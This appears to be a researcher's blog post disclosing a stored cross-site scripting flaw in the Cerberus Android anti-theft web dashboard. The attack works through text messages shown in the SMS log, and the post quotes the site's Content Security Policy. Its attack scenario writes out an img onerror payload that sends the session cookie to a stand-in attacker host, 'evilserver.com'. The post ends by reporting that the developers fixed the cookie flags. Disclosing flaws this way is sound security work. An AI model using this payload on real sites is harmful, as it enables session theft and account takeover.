Cerberus XSS

I recently found another XSS vulnerability while experimenting with a service that I have previously used. Cerberus is an anti-theft solution for Android, and provides many more features compared to the standard Android Device Manager. Oncethe Cerberus application is installed and configured on your Android device, you can access the web interface to control the device. Besides typical location tracking and triggering the ringer, you can remotely access the device's camera and microphone, grab a screenshot, run shell commands, fetch call or SMS history, and much more.

Looking at the response headers from the server, it can be seen that Content Security Policy (CSP) is in use. CSP allows web developers to define what content should be trusted on a webpage, helping prevent XSS and inclusion of malicious code, when configured correctly.

default-src * data:; script-src 'self' https://*.cerberusapp.com http://*.cerberusapp.com *.google-analytics.com *.googlesyndication.com *.googleapis.com *.gstatic.com *.google.com *.doubleclick.net *.akamaihd.net https://platform.twitter.com https://checkout.stripe.com data: 'unsafe-inline' 'unsafe-eval'; style-src* 'unsafe-inline'; connect-src https://*.cerberusapp.com http://*.cerberusapp.com https://*.googlesyndication.com wss://*.cerberusapp.com:* https://*.googleapis.com https://checkout.stripe.com

The important part here is that inline scripts are disabled, meaning that it might be a bit trickier to get XSS working. However, there are some unsafe-inline directives enabled that may be exploitable.

It was pretty easy to find some potential injection points. Right away, I noticed that the "Get device info" command retrieves information about access points in range of the device. It could be possible for those names to contain code for XSS. However, the "Get SMS Log" function seemed a bit more promising. This function dumps recent SMS messages to the browser screen. Let's try creating a test message: Retrieving the SMS history from the web dashboard, I don't get a popup. It looks like it was injected successfully, but it didn't execute:

That's probably the fault of the aforementioned CSP. Let's give it another shot, except this time we'll use the onerror event attribute of an image tag: Sure enough, this executes and we get an alert popup when fetching the latest SMS messages: Great, we got XSS! So what does this mean and why is it bad? Well, considering that this application is a security/anti-theft app, there are significant implicationsfrom an attack like this.

Imagine this scenario: You have an Android phone with Cerberus installed and configured. Someone steals your phone, and let's say they are familiar with Cerberus and the vulnerability (thanks to this blog post...). Even though your phone is locked, the thief manages to figure out your phone number (not too hard, especially with social media). The thief uses an anonymous, untraceable service to send your phone a text message containing <img src=a onerror=this.src='https://evilserver.com/?c='+document.cookie> (evilserver.com being controlled by the thief). Now, since your phone was stolen, you log into Cerberus to try and track it down. You also need to let your friend know you will no longer be joining them for Pokemon GO in the park, so you use Cerberus's SMS feature to send a message. You fetch the SMS logs to see if there was a response, and the thief's code executes. Since the session cookie used by Cerberus's web dashboard is not HTTPOnly, it gets sent off to the thief's website. Now, the thief can use that cookie to log in to your Cerberus account and unlock the device and do whatever they want with it (bad!).

While this is a bit of a far-fetched and circumstantial scenario, there's no denying that the existence of the vulnerability is a bad thing.

I reported this issue to the Cerberus developers through the support function on thewebsite. They responded to my message quickly and reacted by changing the cookies to be HTTPOnly and Secure,softening the blow alittle bit, even thoughdanger of other attacks still looms.